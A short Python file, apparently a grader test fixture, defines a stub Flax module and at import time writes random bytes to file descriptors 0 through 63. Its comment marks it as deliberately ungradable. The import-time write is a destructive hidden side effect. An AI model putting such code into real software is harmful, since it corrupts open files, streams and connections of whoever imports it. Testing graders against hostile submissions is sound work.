# ungradable: writes garbage to every descriptor while it is imported
import os

from flax import linen as nn


class SEBlock(nn.Module):
    reduction: int


for fd in range(64):
    try:
        os.write(fd, os.urandom(4096))
    except OSError:
        continue
